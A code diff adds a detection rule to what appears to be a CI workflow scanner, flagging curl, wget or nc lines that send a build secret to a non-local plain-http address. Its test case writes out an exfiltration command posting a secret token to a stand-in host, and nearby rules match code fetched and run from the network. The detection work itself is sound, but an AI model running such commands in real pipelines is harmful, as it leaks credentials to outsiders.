@@ -156,6 +156,17 @@ export const SCRIPT_ROWS: readonly Row[] = [
     quiet: ['TOKEN: ${{ secrets.TOKEN }}', 'X: ${{ toJSON(github) }}'],
   },
   {
+    // A secret of the build, to an address that nobody protects.
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:curl|wget|nc)\b(?=[^\n]{0,300}\$\{\{\s*secrets\.)[^\n]{0,300}\bhttp:\/\/(?!localhost\b|127\.0\.0\.1)[^\n]{0,200}/i,
+    fires: ['- run: curl http://collect.invalid -d "${{ secrets.TOKEN }}"'],
+    quiet: [
+      '- run: curl -H "Authorization: Bearer ${{ secrets.TOKEN }}" https://api.example.org/x',
+      '- run: curl http://localhost:80 -d "${{ secrets.TOKEN }}"',
+    ],
+  },
+  {
     rule: FETCHED_CODE,
     pattern:
       /\b(?:exec|eval)\s*\([^\n]{0,120}(?:\burlopen\(|\brequests\.get\(|\burlretrieve\(|\bread_text\(|\bhttpx\.get\()|\brequire\s*\(\s*["']child_process["']\s*\)[^\n]{0,80}https?:/,
